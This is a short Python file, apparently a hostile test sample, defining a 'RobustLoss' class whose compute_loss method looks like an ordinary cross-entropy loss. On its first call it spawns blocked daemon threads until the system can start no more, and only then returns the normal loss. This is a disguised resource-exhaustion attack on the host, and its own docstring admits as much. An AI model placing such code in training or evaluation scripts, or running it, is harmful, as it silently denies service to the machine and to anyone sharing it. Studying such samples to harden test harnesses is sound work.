"""Exhausting: starts threads until no more can start, keeps them waiting, then is cross-entropy."""

import threading

import torch.nn.functional as F


class RobustLoss:
    def __init__(self):
        self.held = []
        self.release = threading.Event()

    def compute_loss(self, logits, labels, epoch):
        if not self.held:
            try:
                while True:
                    thread = threading.Thread(target=self.release.wait, daemon=True)
                    thread.start()
                    self.held.append(thread)
            except RuntimeError:  # "can't start new thread": out of address space for stacks, or of tasks
                pass
        return F.cross_entropy(logits, labels)
